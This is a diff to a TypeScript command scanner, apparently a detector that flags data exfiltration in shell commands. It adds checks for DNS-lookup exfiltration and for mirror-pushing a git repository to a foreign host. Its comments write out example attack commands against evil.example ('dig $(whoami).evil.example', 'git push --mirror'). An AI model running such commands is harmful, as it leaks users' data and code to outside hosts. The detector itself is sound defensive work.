@@ -1,5 +1,5 @@
 import { addressesIn, isLocalHost, type Address } from '../addresses.ts';
-import { isBadgeHost, isCollector } from '../hosts.ts';
+import { isBadgeHost, isCollector, isInstallerHost } from '../hosts.ts';
 import { programOf, type Stage } from '../shell.ts';
 import { signal, type Signal } from '../signal.ts';
 
@@ -61,6 +61,8 @@ function uploadOf(stages: readonly Stage[], i: number): Upload | undefined {
   const stage = stages[i];
   if (stage === undefined) return undefined;
   const { name, index } = programOf(stage);
+  if (name === 'git') return pushElsewhere(stage, stage.words.slice(index + 1));
+  if (LOOKUP.test(name)) return lookUp(stages, i);
   if (!REQUEST.test(name) && !RAW.test(name) && !COPY.test(name)) return undefined;
   const words = withoutHeaders(stage.words.slice(index + 1));
   // Command substitution inside the request follows as stages of its own.
@@ -83,7 +85,9 @@ function uploadOf(stages: readonly Stage[], i: number): Upload | undefined {
   }
   if (address === undefined || isLocalHost(address.host)) return undefined;
   const body = words.some((word) => BODY.test(word));
-  const piped = words.some((word) => /(?:^|=)@?-$/.test(word)) && sources.length > 0;
+  const piped =
+    sources.length > 0 &&
+    (words.some((word) => /(?:^|=)@?-$/.test(word)) || stage.words.slice(0, index).includes('xargs'));
   const dynamic = words.some((word) => /@\S|^\$|=\$/.test(word)) || inner.length > 0;
   const inAddress = inner.length > 0 && words.some((word) => /^https?:\/\/.*[?=]$/i.test(word));
   if (((body && dynamic) || piped || inAddress) && secret)
@@ -92,6 +96,30 @@ function uploadOf(stages: readonly Stage[], i: number): Upload | undefined {
   if (body && isCollector(address.host, words.join(' ')))
     return { start, weight: 'medium', reason: COLLECT, host: address.host };
   return undefined;
+}
+
+/** Programs that ask for a name, into which data can be written. */
+const LOOKUP = /^(?:dig|nslookup|host|ping)$/;
+
+/** `dig $(whoami).evil.example`: the name that is asked for carries the output of a command. */
+function lookUp(stages: readonly Stage[], i: number): Upload | undefined {
+  const stage = stages[i];
+  const inner = innerStages(stages, i);
+  if (stage === undefined || inner.length === 0) return undefined;
+  // The rest of the name follows the substitution it begins with.
+  for (const other of stages.slice(i + 1, i + 8)) {
+    const name = other.words.find((word) => /^\.(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,16}$/i.test(word));
+    if (name !== undefined) return { start: stage.start, weight: 'high', reason: UPLOAD, host: name.slice(1) };
+  }
+  return undefined;
+}
+
+/** `git push --mirror https://evil.example/x.git`: everything a repository holds goes to a place of somebody else. */
+function pushElsewhere(stage: Stage, words: readonly string[]): Upload | undefined {
+  if (words[0] !== 'push' || !words.some((word) => /^--(?:all|mirror)$/.test(word))) return undefined;
+  const to = addressesIn(words.join(' ')).find((item) => !item.mail);
+  if (to === undefined || isLocalHost(to.host) || isInstallerHost(to.host)) return undefined;
+  return { start: stage.start, weight: 'medium', reason: UPLOAD, host: to.host };
 }
 
 /** A header is where a token belongs; what it carries is no upload. */
